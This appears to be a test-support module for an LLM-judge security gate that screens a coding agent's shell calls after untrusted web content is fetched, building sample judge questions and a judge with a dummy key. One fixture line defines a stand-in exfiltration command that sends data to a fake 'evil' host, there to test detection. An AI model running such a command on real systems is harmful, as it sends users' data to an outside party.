"""Questions to a judge, and judges to put them to."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from lockgate.core.events import Context
from lockgate.core.model import (
    Effect,
    EffectKind,
    Label,
    LabelState,
    PolicyDecision,
    Reason,
    Subject,
    Taint,
    ToolCall,
    Verdict,
)
from lockgate.core.questions import JudgeQuestion, Opinion
from lockgate.gate.judge.judge import Judge
from lockgate.gate.judge.settings import settings_of
from lockgate.gate.parts import call_digest
from lockgate.store.sqlite.store import SqliteStore
from support.fake_judge import EVIL, FakeJudge

KEY = "sk-test-0123456789-only-a-test"
"""What must be found nowhere but in the header that carries it."""
FINE_COMMAND = "python build.py --fast"
EVIL_COMMAND = f"python send.py --to {EVIL}"


def question(
    command: str = FINE_COMMAND,
    *,
    labels: frozenset[Label] = frozenset({Label.UNTRUSTED}),
    kind: EffectKind = EffectKind.EXECUTE,
    source: str = "WebFetch: https://example.com/",
    tool: str = "Bash",
    tool_input: dict[str, Any] | None = None,
    because: str = "python runs code that cannot be seen through",
    cwd: str = "/work/shop",
) -> JudgeQuestion:
    call = ToolCall(tool, {"command": command} if tool_input is None else tool_input, cwd, "t1")
    effect = Effect(kind, "python", "program:python", because)
    column = LabelState.of(labels)
    reason = Reason(effect, kind.value, column, Verdict.JUDGE)
    taints = [Taint(label, source, "WebFetch", "t0", 1.0) for label in sorted(labels)]
    decision = PolicyDecision(Verdict.JUDGE, column, (reason,), "cascade")
    return JudgeQuestion(Context("claude-code", Subject("s")), call, call_digest(call), labels, decision, taints)


def judge(server: FakeJudge | str, state: Path, api: str = "anthropic", **changes: Any) -> Judge:
    """A judge at a server. Its key stands in a variable that the configuration names."""
    url = server if isinstance(server, str) else server.url
    base_url = f"{url}/v1" if api == "openai" else url
    configured = {"api": api, "model": "m", "base_url": base_url, "key_env": "JUDGE_KEY", "timeout_seconds": 5}
    settings = settings_of({**configured, **changes})
    return Judge(settings, str(state), lambda: SqliteStore.open(str(state)), {"JUDGE_KEY": KEY})


def plain(opinion: Opinion) -> tuple[bool, str]:
    """Whether the call is flagged, and why there is no opinion."""
    return opinion.flagged, opinion.failed
